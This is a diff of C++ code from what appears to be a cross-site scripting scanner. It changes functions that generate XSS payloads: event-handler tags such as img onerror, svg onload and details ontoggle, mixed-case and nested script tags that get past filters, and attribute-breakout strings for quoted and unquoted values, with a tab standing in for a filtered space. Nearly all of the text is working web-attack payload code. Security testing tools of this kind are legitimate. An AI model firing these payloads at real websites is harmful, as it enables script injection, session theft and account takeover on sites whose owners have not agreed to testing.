@@ -191,7 +191,7 @@ namespace {
 /// then forms that survive a filter of "<script", of "onerror", of spaces, or of lower case.
 std::vector<std::string> elementPayloads(const std::string& call) {
   return {"<img src=x onerror=" + call + ">",     "<svg onload=" + call + ">",
-          "<details open ontoggle=" + call + ">", "<img/src=x/onerror=" + call + ">",
+          "<details open ontoggle=" + call + ">", "<svg/onload=" + call + ">",
           "<ScRiPt>" + call + "</sCrIpT>",        "<scr<script>ipt>" + call + "</scr</script>ipt>"};
 }
 
@@ -210,9 +210,13 @@ std::vector<std::string> xssPayloads(const Reflection& where, std::string_view m
     case ReflectionContext::Attribute: {
       // Breaking out needs only the quote: handlers first (they pass a filter of < and >).
       std::string q = where.quote ? std::string(1, where.quote) : "";
-      std::vector<std::string> out = {q + " onmouseover=" + call + " x=" + q,
-                                      q + " autofocus onfocus=" + call + " x=" + q,
-                                      q + "/onmouseover=" + call + "//"};
+      // An unquoted value ends at whitespace only, and only after a character ("value= x"
+      // skips the space): "x" ends it, and a tab stands in for a filtered space.
+      std::string open = where.quote ? q : "x";
+      std::vector<std::string> out = {
+          open + " onmouseover=" + call + " x=" + q,
+          open + " autofocus onfocus=" + call + " x=" + q,
+          where.quote ? q + "/onmouseover=" + call + "//" : "x\tonmouseover=" + call};
       for (auto& p : prefixed(q + ">", elementPayloads(call))) out.push_back(std::move(p));
       out.resize(std::min<std::size_t>(out.size(), 6));
       return out;
